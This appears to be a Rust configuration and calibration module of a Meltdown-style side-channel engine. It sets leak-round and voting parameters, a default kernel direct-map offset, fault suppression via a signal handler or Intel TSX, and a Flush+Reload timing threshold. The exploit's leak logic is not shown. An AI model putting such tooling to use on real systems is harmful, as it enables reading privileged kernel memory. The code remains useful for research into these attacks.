//! Engine configuration, hardware detection and Flush+Reload calibration.

use log::{debug, info};
use raw_cpuid::CpuId;

use crate::cache::{flush, maccess, reload_time};
use crate::error::{Error, Result};

/// Start of the kernel's direct physical map on x86_64 without KASLR.
pub const DEFAULT_PHYSICAL_OFFSET: usize = 0xffff_8800_0000_0000;

const CALIBRATION_ROUNDS: u64 = 1_000_000;

/// How the faulting load is kept from killing the process.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, clap::ValueEnum)]
pub enum FaultHandling {
    /// SIGSEGV handler that skips the faulting load.
    #[default]
    SignalRecovery,
    /// Intel TSX region that aborts instead of trapping.
    Transactional,
}

/// What the background load threads do.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, clap::ValueEnum)]
pub enum LoadType {
    /// Spin with `pause`.
    #[default]
    Idle,
    /// Flush file system buffers to trigger I/O interrupts.
    Io,
    /// Yield to the scheduler in a loop.
    Yield,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub struct Config {
    /// Reloads faster than this many cycles count as cache hits.
    pub cache_miss_threshold: u64,
    pub fault_handling: FaultHandling,
    /// Leak rounds per address.
    pub measurements: u32,
    /// Votes a value needs before it is accepted.
    pub accept_after: u32,
    pub load_threads: usize,
    pub load_type: LoadType,
    /// Extra attempts per round before it counts as unknown.
    pub retries: usize,
    /// Virtual address of physical address 0 in the direct map.
    pub physical_offset: usize,
}

impl Config {
    /// All-zero sentinel: the engine replaces it with [`autoconfig`].
    pub const AUTO: Config = Config {
        cache_miss_threshold: 0,
        fault_handling: FaultHandling::SignalRecovery,
        measurements: 0,
        accept_after: 0,
        load_threads: 0,
        load_type: LoadType::Idle,
        retries: 0,
        physical_offset: 0,
    };

    pub fn is_auto(&self) -> bool {
        *self == Config::AUTO
    }

    /// Fills in a missing threshold and rejects values the engine cannot work with.
    pub fn check(&mut self) -> Result<()> {
        if self.cache_miss_threshold == 0 {
            self.cache_miss_threshold = measure_threshold();
        }
        if self.cache_miss_threshold == 0 {
            return Err(Error::Calibration);
        }
        if self.measurements == 0 {
            return Err(Error::InvalidConfig("measurements must be at least 1"));
        }
        if self.accept_after == 0 {
            return Err(Error::InvalidConfig("accept_after must be at least 1"));
        }
        Ok(())
    }
}

/// CPUID.(EAX=7,ECX=0):EBX[11]
pub fn has_rtm() -> bool {
    CpuId::new()
        .get_extended_feature_info()
        .is_some_and(|features| features.has_rtm())
}

pub fn detect_fault_handling() -> FaultHandling {
    if has_rtm() {
        info!("Using Intel TSX");
        FaultHandling::Transactional
    } else {
        info!("No Intel TSX, fallback to signal handler");
        FaultHandling::SignalRecovery
    }
}

/// Averages reload-only and flush+reload latencies and places the threshold
/// a third of the way from the hit latency to the miss latency.
pub fn measure_threshold() -> u64 {
    let dummy = [0usize; 16];
    let ptr = &dummy[8] as *const usize as *const u8;

    let mut reload = 0u64;
    let mut flush_reload = 0u64;
    unsafe {
        maccess(ptr);
        for _ in 0..CALIBRATION_ROUNDS {
            reload += reload_time(ptr);
        }
        for _ in 0..CALIBRATION_ROUNDS {
            flush_reload += reload_time(ptr);
            flush(ptr);
        }
    }
    reload /= CALIBRATION_ROUNDS;
    flush_reload /= CALIBRATION_ROUNDS;
    debug!("Flush+Reload: {flush_reload} cycles, Reload only: {reload} cycles");

    let threshold = (flush_reload + 2 * reload) / 3;
    info!("Flush+Reload threshold: {threshold} cycles");
    threshold
}

pub fn autoconfig() -> Config {
    debug!("Auto configuration");
    Config {
        cache_miss_threshold: measure_threshold(),
        fault_handling: detect_fault_handling(),
        measurements: 3,
        accept_after: 1,
        load_threads: 1,
        load_type: LoadType::Idle,
        retries: 10_000,
        physical_offset: DEFAULT_PHYSICAL_OFFSET,
    }
}
